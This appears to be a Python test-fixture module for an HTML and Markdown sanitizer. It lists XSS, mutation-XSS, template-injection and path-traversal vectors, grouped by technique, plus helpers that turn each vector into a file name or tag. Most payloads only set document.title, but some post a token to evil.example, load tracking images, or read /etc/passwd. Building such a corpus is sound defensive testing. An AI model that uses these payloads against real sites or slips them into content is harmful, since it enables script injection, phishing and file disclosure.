"""Texts that would run a script, or break out of their place, wherever they are not made harmless.

`ran` is what each of them calls: a browser in which `document.title` becomes "ran" was lost. They
are written from what is known of the ways in: tags, handlers, addresses, foreign namespaces, texts
that a parser and a browser read in two ways, templates, styles, entities.
"""

from __future__ import annotations

RUN = "document.title='ran'"

TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//127.0.0.1/x.js></SCRIPT><script\x0c>{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script//>",
    f"\x00<scr\x00ipt>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src=javascript:{RUN}>',
    f'<base href="javascript:{RUN}//"><a href=x>x</a>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<form action=javascript:{RUN}><button>x</button><input formaction=javascript:{RUN}></form>",
    f"<isindex type=image src=1 onerror={RUN}><keygen autofocus onfocus={RUN}>",
    f'<link rel=stylesheet href="data:text/css,*{{x:1}}"><link rel=import href=javascript:{RUN}>',
    f"<portal src=javascript:{RUN}><fencedframe></fencedframe>",
    f"</main></body></html><script>{RUN}</script>",
    "</section></main><footer><h1>Another page</h1><form action=//evil.example><input name=token>",
    "<plaintext>",
    "<textarea><select><option>",
    "<frameset><frame src=x></frameset>",
)

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=\"{RUN}\" alt='x' ONLOAD={RUN}>",
    f"<img/src/onerror={RUN}//>",
    f"<body onload={RUN}><body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<a href=# onclick={RUN} onmouseover={RUN} autofocus onfocus={RUN} tabindex=1>x</a>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><input autofocus onfocus={RUN}>",
    f'<p style="animation-name:x" onanimationstart={RUN}>x',
    f"<div \x0conpointerenter={RUN} \x0b/onwheel={RUN}>x</div>",
    f"<b on\nclick={RUN} on&#99;lick={RUN}>x</b>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"` onmouseover=`{RUN}`",
    f'x"><img src=x onerror={RUN}>',
    f"x'><img src=x onerror={RUN}>",
)

ADDRESSES = (
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" &#14; JaVaScRiPt:{RUN}">x</a>',
    f'<a href="java\nscr\tipt:{RUN}">x</a>',
    f'<a href="&#x6A;avascript&colon;{RUN}">x</a>',
    f'<a href="vbscript:{RUN}">x</a><a href="livescript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:http://127.0.0.1/x">x</a><a href="filesystem:x">x</a><a href=file:///>x</a>',
    f'<a href="view-source:javascript:{RUN}">x</a><a href="feed:javascript:{RUN}">x</a>',
    f'<a xlink:href="javascript:{RUN}" ping=//evil.example target=_top>x</a>',
    f"[x](javascript:{RUN})",
    f"[x](<java&#10;script:{RUN}>)",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"![x](javascript:{RUN}) ![x](https://evil.example/track.png) ![x](//evil.example/x.png)",
    f'![x]("onerror="{RUN}") ![x" onerror="{RUN}](x.png "y\\" onerror={RUN}")',
    f"<javascript:{RUN}> <data:text/html,x>",
    '<img src="data:image/svg+xml,<svg onload=x>" srcset="//evil.example 1x">',
    "[x](../../../../../etc/passwd) [x](..%2f..%2fsecret) ![x](../../x.png) [x](\\\\evil.example)",
)

FOREIGN = (
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} dur=1s><set attributeName=href to=javascript:{RUN}>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></foreignObject></svg>',
    f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
)

MUTATIONS = (
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table><td><svg><desc><table><td></desc><title><style></title><img src onerror={RUN}>",
    f'<p id="</p><img src=x onerror={RUN}>"><xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<!--><img src=x onerror={RUN}>--><!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[><img src=x onerror={RUN}>]]><?php <img src=x onerror={RUN}>?>",
    f'<!DOCTYPE x [<!ENTITY y "<img src=x onerror={RUN}>">]>&y;',
    f'<title><img title="</title><img src=x onerror={RUN}>">',
    f"`<img src=x onerror={RUN}>` ```\n</code></pre><img src=x onerror={RUN}>\n```",
    f'```"onmouseover={RUN} x\n</code></pre><script>{RUN}</script>\n```',
    f"| a |\n|---|\n| </td></table><script>{RUN}</script> |\n",
    f'# <img src=x onerror={RUN}> " id=main onclick={RUN}',
)

OTHERS = (
    "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('x')()}} [[7*7]] {{7*7}}",
    "<style>*{background:url(//evil.example)}body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(javascript:x);width:expression(x)">over</p>',
    "<p class=site id=main>x</p><form id=site-search></form><img name=cookie id=body>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt; &NewLine;&Tab;&lpar;&colon;",
    f"\ufeff+ADw-script+AD4-{RUN}+ADw-/script+AD4- \uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2028<script>{RUN}</script>\u2029 \u202e<script>{RUN}</script>",
    f"---\ntitle: <script>{RUN}</script>\n---\n<script>{RUN}</script>",
    "<a id=__proto__ href=x>x</a><a name=defaultView>x</a><img id=title>",
    "<td></td></table></div></div></section></body>",
)

CORPUS = (*TAGS, *HANDLERS, *ADDRESSES, *FOREIGN, *MUTATIONS, *OTHERS)


def as_path(vector: str) -> str:
    """A vector as the name of a file of its own: without what no path may hold."""
    kept = "".join(sign for sign in vector.replace("/", "\u2215") if sign.isprintable())
    return f"{CORPUS.index(vector)} {kept}.txt".replace("\\", "")


def as_tag(vector: str) -> str:
    """A vector as a tag: on one line, not too long."""
    return "".join(sign if sign.isprintable() else " " for sign in vector).strip()[:200]
